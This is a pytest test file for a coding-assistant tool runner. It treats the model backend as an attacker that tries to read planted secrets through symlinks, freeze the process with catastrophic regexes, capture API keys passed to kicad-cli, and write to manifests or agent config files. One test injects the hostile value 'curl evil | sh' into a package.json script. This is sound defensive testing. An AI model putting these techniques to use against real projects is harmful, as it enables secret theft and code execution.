"""Hostile tool calls: the backend (the model) is the attacker, and so are the project's files.

Five classes of attack on the local tool runner, each driven with hostile input as
the normal case, at unit level against ``LocalToolRunner`` and, where the attack is
about what the backend can make the client do, through whole chat turns against
the real protocol server (``buildwithtrace chat`` in a subprocess, or the SDK):

1. hidden files (``.env``, ``.git/config``) reached through a visible symlink, a
   walk, a listing or the EDA tools' file argument;
2. a catastrophic regular expression that would freeze the process (every thread,
   Ctrl-C, other SDK streams) under a backtracking engine;
3. ``grep`` memory: four concurrent searches of 20 MiB files;
4. the EDA engine (``kicad-cli``) inheriting API keys and the Trace token;
5. writes to files that package managers, build tools and editors execute or trust,
   spelled in any case or with the decorations Windows ignores.

Plus the result caps (no call returns more than its cap, whatever the shape of the
output). Cases that would hang the interpreter under the old engine run in child
processes (``tests.reliability.tool_workers``) that the test kills when they overrun.
"""

from __future__ import annotations

import itertools
import json
import os
import random
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.tools.local import LocalToolRunner
from domain.chat import ToolCall, ToolResult
from tests.e2e.cli_runner import CLI, child_env
from tests.reliability import tool_workers
from tests.reliability.plugin import Figures
from tests.support import protocol_server as ps
from tests.support.protocol_server import TOKEN, ProtocolServer

pytestmark = pytest.mark.reliability

SECRET = "sk-ant-api03-HIDDEN-CANARY-5e1f"
GIT_SECRET = "ghp_GITCONFIGCANARY0123456789"
# Catastrophic for a backtracking engine on the first line of ``_slow_file``; slow but
# linear for RE2 on the rest (its DFA blows up, the NFA does ~2 s/MiB of a/b text).
SLOW_PATTERN = r"(a[ab]{20}|b[ab]{20}){10}c|(a+)+$"


def _tool(runner: LocalToolRunner, tool: str, **args: object) -> ToolResult:
    return runner.run(ToolCall("hostile", tool, args))


def _tree(top: Path) -> dict[str, bytes | str]:
    """Every entry under ``top`` (links not followed)."""
    found: dict[str, bytes | str] = {}
    for directory, dirs, files in os.walk(top, followlinks=False):
        for name in dirs + files:
            path = Path(directory, name)
            key = path.relative_to(top).as_posix()
            if path.is_symlink():
                found[key] = f"link:{path.readlink()}"
            elif path.is_dir():
                found[key] = "dir"
            else:
                found[key] = path.read_bytes()
    return found


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A cloned project whose author planted links to its hidden files."""
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    (project / "lib").mkdir()
    (project / ".env").write_text(f"ANTHROPIC_API_KEY={SECRET}\n")
    (project / ".git" / "config").write_text(f"url = https://x:{GIT_SECRET}@github.com/a/b\n")
    (project / "board.kicad_sch").write_text("(kicad_sch (symbol R1))\n")
    (project / "lib" / "parts.kicad_sym").write_text("(kicad_symbol_lib)\n")
    (project / "notes.txt").symlink_to(".env")
    (project / "config.md").symlink_to(Path(".git", "config"))
    (project / "gitdir").symlink_to(".git")
    (project / "lib" / "up").symlink_to(Path("..", ".git"))
    return project


def _leaks(text: str) -> bool:
    return SECRET in text or GIT_SECRET in text or "HIDDEN-CANARY" in text


# --- 1. hidden files ---------------------------------------------------------------------


@pytest.mark.parametrize("mode", ["content", "files_with_matches", "count"])
@pytest.mark.parametrize("pattern", ["CANARY", "sk-ant", ".", "url ="])
def test_grep_never_reads_a_hidden_file_through_a_visible_link(
    root: Path, mode: str, pattern: str
) -> None:
    """Walking the project skips links whose target is hidden (``notes.txt -> .env``)."""
    result = _tool(LocalToolRunner(root), "grep", pattern=pattern, output_mode=mode)

    assert not _leaks(result.result), result.result
    assert "notes.txt" not in result.result
    assert "config.md" not in result.result


@pytest.mark.parametrize(
    "path", ["notes.txt", "config.md", "gitdir", "gitdir/config", "lib/up", "lib/up/config"]
)
def test_grep_refuses_an_explicit_path_that_leads_to_a_hidden_file(root: Path, path: str) -> None:
    """Naming the visible alias is refused, as ``read_file`` refuses it."""
    result = _tool(LocalToolRunner(root), "grep", pattern=".", path=path)

    assert result.is_error, result.result
    assert "hidden files and directories are off limits" in result.result
    assert not _leaks(result.result)


def test_list_dir_shows_no_hidden_entry_and_counts_them(root: Path) -> None:
    """Hidden entries are left out with a note; links to hidden targets end in ``@``."""
    result = _tool(LocalToolRunner(root), "list_dir")

    assert result.result.splitlines() == [
        "board.kicad_sch",
        "config.md@",
        "gitdir@",
        "lib/",
        "notes.txt@",
        "[2 hidden entries not shown]",
    ]


@pytest.mark.parametrize("path", [".git", "gitdir", "lib/up", "lib/../.git", ".git/..", "./.git"])
def test_list_dir_refuses_to_list_a_hidden_directory(root: Path, path: str) -> None:
    """Listing inside ``.git`` (directly or through a link) is refused."""
    result = _tool(LocalToolRunner(root), "list_dir", path=path)

    assert result.is_error, result.result
    assert result.result.startswith(f"refusing to list {path!r}: hidden files"), result.result


def _fake_kicad_cli(directory: Path) -> Path:
    """A kicad-cli stand-in that records each run and writes an empty JSON report."""
    directory.mkdir(exist_ok=True)
    script = directory / "kicad-cli"
    script.write_text(
        "#!/bin/sh\n"
        f'echo "$@" >> "{directory}/runs"\n'
        f'/usr/bin/env > "{directory}/env"\n'
        'while [ $# -gt 0 ]; do case "$1" in --output) out="$2"; shift 2;; *) shift;; esac; done\n'
        'printf \'{"violations": []}\' > "$out"\n'
    )
    script.chmod(0o755)
    return script


@pytest.mark.parametrize(
    ("tool", "path"),
    [
        ("get_erc_violations", ".hidden.kicad_sch"),
        ("get_erc_violations", ".work/board.kicad_sch"),
        ("get_erc_violations", "visible.kicad_sch"),
        ("get_erc_violations", ".work/../board.kicad_sch"),
        ("get_drc_violations", ".work/board.kicad_pcb"),
        ("get_drc_violations", "visible.kicad_pcb"),
    ],
)
def test_erc_and_drc_refuse_a_hidden_file(root: Path, tmp_path: Path, tool: str, path: str) -> None:
    """The EDA engine is never run on a hidden file, nor through a visible link to one."""
    (root / ".work").mkdir()
    for name in (".hidden.kicad_sch", ".work/board.kicad_sch", ".work/board.kicad_pcb"):
        (root / name).write_text("(kicad_sch)\n")
    (root / "visible.kicad_sch").symlink_to(".hidden.kicad_sch")
    (root / "visible.kicad_pcb").symlink_to(Path(".work", "board.kicad_pcb"))
    bin_dir = tmp_path / "bin"
    runner = LocalToolRunner(root, kicad_cli=str(_fake_kicad_cli(bin_dir)))

    result = _tool(runner, tool, file_path=path)

    assert result.is_error, result.result
    assert "hidden files and directories are off limits" in result.result
    assert not (bin_dir / "runs").exists()


def test_erc_default_file_skips_hidden_schematics(tmp_path: Path) -> None:
    """Without a file argument, a hidden schematic (or a link to one) is never chosen."""
    project = tmp_path / "p"
    project.mkdir()
    (project / ".old.kicad_sch").write_text("(kicad_sch)\n")
    (project / "main.kicad_sch").symlink_to(".old.kicad_sch")
    bin_dir = tmp_path / "bin"
    runner = LocalToolRunner(project, kicad_cli=str(_fake_kicad_cli(bin_dir)))

    result = _tool(runner, "get_erc_violations")

    assert result.is_error and "no .kicad_sch schematic" in result.result, result.result
    assert not (bin_dir / "runs").exists()


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("read_file", {"target_file": ".git/../board.kicad_sch"}),
        ("grep", {"pattern": "R1", "path": ".git/../board.kicad_sch"}),
        ("list_dir", {"path": ".git/../lib"}),
        ("write", {"file_path": ".cache/../new.kicad_sch", "contents": "x"}),
        ("write", {"file_path": ".scratch/new.kicad_sch", "contents": "x"}),
        ("search_replace",
         {"file_path": ".git/../board.kicad_sch", "old_string": "R1", "new_string": "R2"}),
        ("delete_trace_file", {"filename": ".scratch/a.trace_sch"}),
        ("delete_trace_file", {"filename": "scratch.trace_sch"}),
    ],
)  # fmt: skip
def test_every_tool_refuses_a_hidden_component_anywhere(
    root: Path, tool: str, args: dict[str, object]
) -> None:
    """One policy: a hidden name in the given path or in what it resolves to is refused."""
    (root / ".scratch").mkdir()
    (root / ".scratch" / "a.trace_sch").write_text("mine\n")
    (root / "scratch.trace_sch").symlink_to(Path(".scratch", "a.trace_sch"))
    before = _tree(root)

    result = _tool(LocalToolRunner(root), tool, **args)

    assert result.is_error, result.result
    assert "hidden files and directories are off limits" in result.result
    assert _tree(root) == before


@pytest.fixture
def cli_env(protocol_server: ProtocolServer, monkeypatch: pytest.MonkeyPatch) -> ProtocolServer:
    """The CLI's environment: the protocol server, its token, the file store."""
    monkeypatch.setenv("TRACE_BASE_URL", protocol_server.url)
    monkeypatch.setenv("TRACE_API_TOKEN", TOKEN)
    monkeypatch.setenv("TRACE_CREDENTIALS_STORE", "file")
    return protocol_server


def test_a_chat_turn_cannot_read_hidden_files_through_grep_or_list_dir(
    root: Path, cli_env: ProtocolServer
) -> None:
    """End to end: the backend has ``buildwithtrace chat --json`` grep, list and read through
    the planted links; no secret goes back to it nor reaches the output."""
    server = cli_env
    server.add_turn(
        ps.tool_call("g1", "grep", {"pattern": "CANARY|url"}),
        ps.tool_call("g2", "grep", {"pattern": ".", "path": "notes.txt"}),
        ps.tool_call("g3", "grep", {"pattern": ".", "output_mode": "files_with_matches"}),
        ps.tool_call("l1", "list_dir", {"path": "gitdir"}),
        ps.tool_call("r1", "read_file", {"target_file": "config.md"}),
        ps.done(),
    )

    done = subprocess.run(
        [str(CLI), "chat", "look around", "--json", "--project", str(root)],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        env=child_env(),
        timeout=60,
        check=False,
    )

    assert done.returncode == 0, done.stderr
    posted = {r["tool_call_id"]: r for r in server.tool_results}
    assert sorted(posted) == ["g1", "g2", "g3", "l1", "r1"]
    assert not any(_leaks(r["result"]) for r in posted.values()), posted
    assert posted["g2"]["is_error"] and posted["l1"]["is_error"] and posted["r1"]["is_error"]
    assert not _leaks(done.stdout + done.stderr)


# --- 2. catastrophic patterns, cancellation ------------------------------------------------


def _spec(tmp_path: Path, spec: dict[str, Any]) -> str:
    path = tmp_path / f"spec-{random.getrandbits(32):08x}.json"
    path.write_text(json.dumps(spec), encoding="utf-8")
    return str(path)


HOSTILE_PATTERNS = [
    r"(a+)+$",
    r"(a|aa)+$",
    r"(a|a?)+$",
    r"^(\w+\s?)*$",
    r"(x+x+)+y",
    r"(.*a){25}z",
    r"^(([a-z])+.)+[A-Z]([a-z])+$",
]


def test_catastrophic_patterns_end_quickly_and_other_threads_keep_running(
    tmp_path: Path, figures: Figures
) -> None:
    """Classic exponential-backtracking patterns on the lines that trigger them: each grep
    ends (a result or an error) within seconds, and another thread of the process keeps
    running meanwhile (the largest gap between its 1 ms ticks is recorded)."""
    project = tmp_path / "p"
    project.mkdir()
    lines = ["a" * 40 + "!", "x" * 40, "word " * 25 + "!", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaB"]
    (project / "hostile.md").write_text("\n".join(lines * 50) + "\n")

    worker = tool_workers.start(
        "patterns", str(project), _spec(tmp_path, {"patterns": HOSTILE_PATTERNS})
    )
    records, stderr = tool_workers.finish(worker, timeout=90)

    assert records is not None, f"a hostile pattern froze the process for 90 s\n{stderr}"
    assert [r["pattern"] for r in records] == HOSTILE_PATTERNS
    for record in records:
        figures.peak("hostile_grep_s", record["seconds"])
        figures.peak("other_thread_max_gap_s", record["gap"])
        assert record["seconds"] < 20, record
        assert record["gap"] < 5, record


@pytest.mark.parametrize(
    ("pattern", "feature"),
    [
        (r"(R\d)\1", "backreference"),
        (r"R(?=1)", "lookahead"),
        (r"(?<!x)R1", "lookbehind"),
        (r"R1\Z", r"\Z"),
        (r"(?>R)1", "atomic group"),
        (r"R1++", "possessive"),
    ],
)
def test_syntax_re2_lacks_is_a_clear_error(root: Path, pattern: str, feature: str) -> None:
    """Backreferences, lookaround and the like are refused with a message naming RE2."""
    result = _tool(LocalToolRunner(root), "grep", pattern=pattern)

    assert result.is_error, (feature, result.result)
    assert "RE2" in result.result
    assert "backreferences" in result.result and "lookaround" in result.result


def _slow_file(path: Path, megabytes: float) -> None:
    """A line that is catastrophic for backtracking, then long lines of random a/b."""
    rng = random.Random(7)
    size = int(megabytes * 1024 * 1024)
    line = 60 * 1024
    body = bytes(rng.choice(b"ab") for _ in range(size))
    lines = [body[i : i + line] for i in range(0, size, line)]
    path.write_bytes(b"a" * 30 + b"!\n" + b"\n".join(lines) + b"\n")


def test_grep_time_is_bounded_by_its_deadline(tmp_path: Path, figures: Figures) -> None:
    """A pattern that is slow even for a linear engine ends by the deadline, with a note."""
    project = tmp_path / "p"
    project.mkdir()
    _slow_file(project / "slow.md", 4)
    spec = {"patterns": [SLOW_PATTERN]}

    worker = tool_workers.start("patterns", str(project), _spec(tmp_path, spec))
    records, stderr = tool_workers.finish(worker, timeout=90)

    assert records is not None, f"grep ran unbounded\n{stderr}"
    (record,) = records
    figures.peak("slow_grep_until_deadline_s", record["seconds"])
    figures.peak("other_thread_max_gap_s", record["gap"])
    assert not record["is_error"], record
    assert record["seconds"] < 30, record


def test_deadline_note_says_the_search_stopped(tmp_path: Path) -> None:
    """With a short deadline the result is what was found, plus a note that it is incomplete."""
    project = tmp_path / "p"
    project.mkdir()
    _slow_file(project / "slow.md", 2)
    (project / "a.md").write_text("found R1\n")

    runner = LocalToolRunner(project, grep_seconds=0.2)
    result = _tool(runner, "grep", pattern=r"found R1|" + SLOW_PATTERN)

    assert not result.is_error, result.result
    lines = result.result.splitlines()
    assert lines[0] == "a.md:1:found R1"
    assert lines[-1].startswith("[search stopped after 0.2 s")


def test_cancel_stops_a_running_grep(tmp_path: Path, figures: Figures) -> None:
    """``cancel()`` (what Ctrl-C calls) ends a long grep at once with a 'cancelled' error."""
    project = tmp_path / "p"
    project.mkdir()
    _slow_file(project / "slow.md", 3)
    spec = {"tool": "grep", "args": {"pattern": SLOW_PATTERN}, "delay": 1.0}

    worker = tool_workers.start("cancel", str(project), _spec(tmp_path, spec))
    records, stderr = tool_workers.finish(worker, timeout=90)

    assert records is not None, f"cancel() did not stop the grep\n{stderr}"
    (record,) = records
    figures.peak("cancel_latency_s", record["latency"])
    assert record["is_error"] and "cancelled" in record["head"], record
    assert record["latency"] < 5, record


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("read_file", {"target_file": "board.kicad_sch"}),
        ("grep", {"pattern": "R1"}),
        ("list_dir", {}),
        ("write", {"file_path": "new.kicad_sch", "contents": "x"}),
        ("get_erc_violations", {"file_path": "board.kicad_sch"}),
    ],
)
def test_after_cancel_every_tool_fails_fast(
    root: Path, tmp_path: Path, tool: str, args: dict[str, object]
) -> None:
    """Once the turn is cancelled, no tool starts new work."""
    runner = LocalToolRunner(root, kicad_cli=str(_fake_kicad_cli(tmp_path / "bin")))
    before = _tree(root)
    runner.cancel()

    result = _tool(runner, tool, **args)

    assert result.is_error and "cancelled" in result.result, result.result
    assert _tree(root) == before


def test_a_second_sdk_stream_keeps_flowing_while_a_hostile_grep_runs(
    tmp_path: Path, cli_env: ProtocolServer, figures: Figures
) -> None:
    """Two SDK streams in one process: while stream A's tool runs a hostile grep, stream B
    keeps receiving its events (every 50 ms); the largest gap between B's events is recorded."""
    server = cli_env
    project = tmp_path / "p"
    project.mkdir()
    _slow_file(project / "slow.md", 1.5)
    ticking = [step for _ in range(80) for step in (ps.text("."), ps.sleep(0.05))]
    server.add_turn(*ticking, ps.done("b"))
    server.add_turn(
        ps.tool_call("hostile", "grep", {"pattern": SLOW_PATTERN}, timeout=120), ps.done("a")
    )

    worker = tool_workers.start("streams", str(project), _spec(tmp_path, {}), env=child_env())
    records, stderr = tool_workers.finish(worker, timeout=120)

    assert records is not None, f"the SDK process froze\n{stderr}"
    (record,) = records
    ticks = record["ticks"]
    assert len(ticks) == 80, record
    assert "grep_done" in record, record
    during = [t for t in ticks if record["a_started"] <= t <= record["grep_done"] + 0.2]
    gaps = [b - a for a, b in itertools.pairwise(ticks)]
    figures.peak("second_stream_max_gap_s", max(gaps))
    figures.peak("hostile_grep_in_sdk_s", record["grep_done"] - record["a_started"])
    figures.add("second_stream_events_during_grep", len(during))
    assert max(gaps) < 2, gaps


def test_ctrl_c_ends_a_chat_whose_grep_is_still_running(
    tmp_path: Path, cli_env: ProtocolServer, figures: Figures
) -> None:
    """SIGINT to ``buildwithtrace chat`` while its grep runs: the process exits (130) promptly,
    and the grep reports itself cancelled rather than running on."""
    server = cli_env
    project = tmp_path / "p"
    project.mkdir()
    _slow_file(project / "slow.md", 3)
    server.add_turn(ps.tool_call("long", "grep", {"pattern": SLOW_PATTERN}, timeout=120), ps.done())
    process = subprocess.Popen(
        [str(CLI), "chat", "search", "--project", str(project)],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=child_env(),
    )
    try:
        deadline = time.monotonic() + 30
        while not server.chat_requests:
            assert time.monotonic() < deadline, "the chat request never arrived"
            time.sleep(0.05)
        time.sleep(1.0)  # the grep is running now
        interrupted_at = time.monotonic()
        process.send_signal(signal.SIGINT)
        try:
            _, stderr = process.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            pytest.fail("buildwithtrace chat did not exit within 30 s of Ctrl-C")
        took = time.monotonic() - interrupted_at
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()

    figures.peak("ctrl_c_exit_s", took)
    assert process.returncode == 130, stderr
    assert "Traceback" not in stderr
    assert took < 10
    results = server.tool_results
    assert all(r["is_error"] and "cancelled" in r["result"] for r in results), results


# --- 3. memory ----------------------------------------------------------------------------------


def test_four_concurrent_greps_of_20_mib_files_stay_small(tmp_path: Path, figures: Figures) -> None:
    """Four greps at once (a chat turn runs up to four tools), each over a 20 MiB file (one
    of them a single 20 MiB line): the process's peak memory stays well under 200 MiB."""
    project = tmp_path / "p"
    project.mkdir()
    size = 20 * 1024 * 1024
    line = b'  (property "Reference" "R42" (at 10.16 20.32 0) (effects (font (size 1.27 1.27))))\n'
    for i in range(3):
        (project / f"big{i}.kicad_sch").write_bytes(line * (size // len(line)))
    (project / "oneline.json").write_bytes(b'{"k": "R42", "v": "' + b"x" * (size - 64) + b'"}\n')
    (project / "warm.md").write_text("x\n")
    spec = {
        "warm": "warm.md",
        "files": ["big0.kicad_sch", "big1.kicad_sch", "big2.kicad_sch", "oneline.json"],
        "args": {"pattern": "R42", "C": 2},
    }

    worker = tool_workers.start("memory", str(project), _spec(tmp_path, spec))
    records, stderr = tool_workers.finish(worker, timeout=600)

    assert records is not None, stderr
    (record,) = records
    figures.peak("grep_x4_20mib_peak_rss_mib", record["peak_mib"])
    figures.peak("grep_x4_20mib_growth_mib", record["peak_mib"] - record["baseline_mib"])
    assert all(not failed for failed, _, _ in record["results"]), record["results"]
    assert record["peak_mib"] < 200, record


# --- 4. the EDA engine's environment ---------------------------------------------------------

_SECRETS_IN_ENV = {
    "ANTHROPIC_API_KEY": "sk-ant-api03-ENVCANARY-1",
    "OPENAI_API_KEY": "sk-proj-ENVCANARY-2",
    "GEMINI_API_KEY": "ENVCANARY-3",
    "TRACE_API_TOKEN": "trace-ENVCANARY-4",
    "TRACE_LLM_API_KEY": "ENVCANARY-5",
    "AWS_SECRET_ACCESS_KEY": "ENVCANARY-6",
    "GITHUB_TOKEN": "ENVCANARY-7",
    "KICAD_API_TOKEN": "ENVCANARY-8",
    "KICAD_SECRET": "ENVCANARY-9",
    "XDG_SESSION_KEY": "ENVCANARY-10",
    "DB_PASSWORD": "ENVCANARY-11",
    "LD_PRELOAD": "/tmp/ENVCANARY-12.so",
}
_KEPT_IN_ENV = {
    "PATH": "/usr/local/bin:/usr/bin:/bin",
    "HOME": "/home/someone",
    "LANG": "C.UTF-8",
    "LC_ALL": "C.UTF-8",
    "TZ": "UTC",
    "TMPDIR": "/tmp",
    "XDG_CONFIG_HOME": "/home/someone/.config",
    "KICAD9_SYMBOL_DIR": "/usr/share/kicad/symbols",
}


def _env_dump(path: Path) -> dict[str, str]:
    pairs = (line.split("=", 1) for line in path.read_text().splitlines() if "=" in line)
    return dict(pairs)


def test_kicad_cli_gets_only_allow_listed_variables(root: Path, tmp_path: Path) -> None:
    """The engine's environment is an allow-list of the runner's: no key, token or secret."""
    bin_dir = tmp_path / "bin"
    runner = LocalToolRunner(
        root,
        kicad_cli=str(_fake_kicad_cli(bin_dir)),
        environment={**_SECRETS_IN_ENV, **_KEPT_IN_ENV},
    )

    result = _tool(runner, "get_erc_violations", file_path="board.kicad_sch")

    assert not result.is_error, result.result
    seen = _env_dump(bin_dir / "env")
    assert not set(seen) & set(_SECRETS_IN_ENV), seen
    assert not any("ENVCANARY" in value for value in seen.values()), seen
    assert {name: seen.get(name) for name in _KEPT_IN_ENV} == _KEPT_IN_ENV


def test_a_chat_erc_never_hands_keys_or_the_token_to_kicad_cli(
    root: Path, tmp_path: Path, cli_env: ProtocolServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """End to end: ``buildwithtrace chat`` with keys and the Trace token in its environment
    runs ERC for the backend; the engine sees none of them."""
    server = cli_env
    bin_dir = tmp_path / "bin"
    monkeypatch.setenv("TRACE_KICAD_CLI", str(_fake_kicad_cli(bin_dir)))
    for name, value in _SECRETS_IN_ENV.items():
        if name != "TRACE_API_TOKEN":
            monkeypatch.setenv(name, value)
    server.add_turn(ps.tool_call("erc", "get_erc_violations", {}), ps.done())

    done = subprocess.run(
        [str(CLI), "chat", "check", "--project", str(root)],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        env=child_env(),
        timeout=60,
        check=False,
    )

    assert done.returncode == 0, done.stderr
    assert not server.tool_results[0].get("is_error"), server.tool_results
    seen = _env_dump(bin_dir / "env")
    assert TOKEN not in "\n".join(seen.values())
    assert not any("ENVCANARY" in value for value in seen.values()), seen
    assert "PATH" in seen


# --- 5. files that tools execute or trust --------------------------------------------------------

TRUSTED_NAMES = [
    "package.json", "PACKAGE.JSON", "Package.Json", "package.json.", "package.json ",
    "package.json. .", "pac\u212aage.json", "sub/package-lock.json", "npm-shrinkwrap.json",
    "composer.json", "tsconfig.json", "tsconfig.build.json", "jsconfig.json", "deno.json",
    "bower.json", "lerna.json", "nx.json", "project.json", "turbo.json", "angular.json",
    "vercel.json", "firebase.json", "app.json", "manifest.json", "renovate.json",
    "babel.config.json", "jest.config.json", "devcontainer.json", "tasks.json",
    "launch.json", "settings.json", "\u017fettings.json", "global.json", "appsettings.json",
    "appsettings.Development.json", "launchSettings.json", "pyrightconfig.json",
    "biome.json", "tslint.json", "yarn-lock.json", "packages.lock.json", "nodemon.json",
    "cdk.json", "CMakePresets.json", "vcpkg.json", "dotnet-tools.json", "lefthook.json",
    "tauri.conf.json", "AGENTS.md", "claude.md", "GEMINI.md",
    "a:b.json", "board.json:evil", "notes.md::$DATA",
]  # fmt: skip


@pytest.mark.parametrize("name", TRUSTED_NAMES)
def test_write_refuses_files_that_tools_execute_or_trust(root: Path, name: str) -> None:
    """Manifests, lock files and configs are refused in any case, with trailing dots or
    spaces (ignored by Windows), and names with ':' (NTFS streams) are refused."""
    (root / "sub").mkdir()
    before = _tree(root)

    result = _tool(LocalToolRunner(root), "write", file_path=name, contents='{"scripts": {}}')

    assert result.is_error and "refusing" in result.result, result.result
    assert _tree(root) == before


def test_search_replace_refuses_an_existing_manifest_in_another_case(root: Path) -> None:
    """A manifest already there (``PACKAGE.JSON``) is not edited either."""
    (root / "PACKAGE.JSON").write_text('{"scripts": {"test": "true"}}\n')
    before = _tree(root)

    result = _tool(
        LocalToolRunner(root),
        "search_replace",
        file_path="PACKAGE.JSON",
        old_string='"true"',
        new_string='"curl evil | sh"',
    )

    assert result.is_error and "refusing" in result.result, result.result
    assert _tree(root) == before


@pytest.mark.parametrize(
    "name", ["board.JSON", "parts.Kicad_Sym", "bom.csv", "notes.md", "lib/sym-lib-table"]
)
def test_design_files_stay_writable_in_any_case(root: Path, name: str) -> None:
    """The same comparison lets design files through whatever their case."""
    result = _tool(LocalToolRunner(root), "write", file_path=name, contents="x")

    assert not result.is_error, result.result


# --- caps ----------------------------------------------------------------------------------------

CAP = 5_000
NOTES_ALLOWANCE = 1024


@pytest.fixture
def capped(tmp_path: Path) -> Iterator[tuple[Path, LocalToolRunner]]:
    """A project of output-maximising files, and a runner with a small cap."""
    project = tmp_path / "p"
    (project / "many").mkdir(parents=True)
    (project / "short.md").write_bytes(b"x\n" * 300_000)
    (project / "long.md").write_bytes(b"x" * (3 * 1024 * 1024) + b"\n")
    (project / "wide.md").write_bytes(("é" * 1500 + "\n").encode() * 2000)
    for n in range(3000):
        (project / "many" / f"{n:05}-{'n' * 60}.csv").write_text("x\n")
    yield project, LocalToolRunner(project, max_result_chars=CAP)


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("grep", {"pattern": "x"}),
        ("grep", {"pattern": "x", "C": 50}),
        ("grep", {"pattern": "x", "path": "long.md"}),
        ("grep", {"pattern": "é", "path": "wide.md", "B": 3}),
        ("grep", {"pattern": ".", "output_mode": "files_with_matches", "path": "many"}),
        ("read_file", {"target_file": "short.md"}),
        ("read_file", {"target_file": "long.md"}),
        ("read_file", {"target_file": "wide.md"}),
        ("list_dir", {"path": "many"}),
    ],
)
def test_no_result_exceeds_its_cap(
    capped: tuple[Path, LocalToolRunner], tool: str, args: dict[str, object]
) -> None:
    """Many short lines, one huge line, wide characters, context lines, long listings:
    every result stays within its cap (plus the notes) and says what was left out."""
    _, runner = capped

    result = _tool(runner, tool, **args)

    assert not result.is_error, result.result
    assert len(result.result) <= CAP + NOTES_ALLOWANCE, len(result.result)
    assert len(result.result.encode()) <= 4 * (CAP + NOTES_ALLOWANCE)
    told = ("[output truncated:", "more entries not shown", "…")  # "…": one line cut short
    assert any(mark in result.result for mark in told), result.result[-300:]


# --- the chunked search finds exactly what a line-by-line search finds --------------------------

_ATOMS = st.sampled_from(
    ["a", "b", "ab", ".", "[ab]", "[^a]", r"\s", r"\w", r"\b", "^", "$", r"\A", r"\z", " "]
)


@st.composite
def _patterns(draw: st.DrawFn) -> str:
    """Small patterns whose meaning is the same in RE2 and Python's re (``\\z`` aside)."""
    parts = []
    for _ in range(draw(st.integers(1, 4))):
        atom = draw(_ATOMS)
        quantifier = draw(st.sampled_from(["", "", "*", "+", "?", "{1,3}"]))
        if atom in ("^", "$", r"\A", r"\z", r"\b"):
            quantifier = ""
        parts.append(atom + quantifier)
    pattern = "".join(parts)
    if draw(st.booleans()):
        pattern = f"(?:{pattern})|{draw(_ATOMS)}"
    return pattern


_LINE_TEXT = st.text(alphabet="ab \r\t", max_size=12)


def _reference(pattern: str, data: bytes, before: int, after: int) -> list[str]:
    """What grep's content mode must print: per-line matches and merged context windows."""
    import re

    regex = re.compile(pattern.replace(r"\z", r"\Z").encode())
    lines = data.split(b"\n")
    if lines[-1] == b"":
        lines.pop()
    lines = [line.removesuffix(b"\r") for line in lines]
    matches = [n for n, line in enumerate(lines) if regex.search(line)]
    windows: list[tuple[int, int]] = []
    for n in matches:
        first, last = max(n - before, 0), min(n + after, len(lines) - 1)
        if windows and first <= windows[-1][1] + 1:
            windows[-1] = (windows[-1][0], max(windows[-1][1], last))
        else:
            windows.append((first, last))
    out: list[str] = []
    for index, (first, last) in enumerate(windows):
        if index and (before or after):
            out.append("--")
        for n in range(first, last + 1):
            mark = ":" if n in matches else "-"
            out.append(f"f.md{mark}{n + 1}{mark}{lines[n].decode()}")
    return out


@settings(
    max_examples=100,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    pattern=_patterns(),
    lines=st.lists(_LINE_TEXT, min_size=1, max_size=30),
    repeat=st.sampled_from([1, 300, 1200]),
    context=st.tuples(st.integers(0, 3), st.integers(0, 3)),
)
def test_chunked_search_agrees_with_a_line_by_line_search(
    tmp_path: Path, pattern: str, lines: list[str], repeat: int, context: tuple[int, int]
) -> None:
    """Whatever the pattern and line endings, across chunk and block boundaries, grep prints
    exactly the lines (and context) a line-by-line search prints."""
    before, after = context
    data = ("\n".join(lines) + "\n").encode() * repeat
    project = tmp_path / "chunks"
    project.mkdir(exist_ok=True)
    (project / "f.md").write_bytes(data)
    runner = LocalToolRunner(project, max_result_chars=10**9)

    result = _tool(runner, "grep", pattern=pattern, path="f.md", B=before, A=after)

    assert not result.is_error, result.result
    expected = _reference(pattern, data, before, after)
    assert result.result.split("\n") == (expected or ["no matches"])


def test_an_empty_match_after_the_last_newline_is_not_a_line(tmp_path: Path) -> None:
    """Multi-line ``^...$`` also matches after a file's final newline; that is no line (found
    by the property above: it crashed the block search)."""
    project = tmp_path / "p"
    project.mkdir()
    (project / "f.md").write_text("aaa\n")

    result = _tool(LocalToolRunner(project), "grep", pattern="^a?a?$", path="f.md")

    assert result == ToolResult("hostile", "no matches", False)
